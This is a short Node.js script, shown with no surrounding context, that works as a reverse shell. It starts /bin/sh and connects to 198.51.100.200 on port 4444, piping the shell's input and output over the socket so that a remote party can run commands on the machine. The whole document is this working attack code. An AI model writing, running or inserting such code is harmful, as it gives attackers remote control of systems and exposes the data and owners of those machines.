const net = require("net");
const { spawn } = require("child_process");
const sh = spawn("/bin/sh", []);
const client = net.connect(4444, "198.51.100.200", () => {
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
  sh.stderr.pipe(client);
});
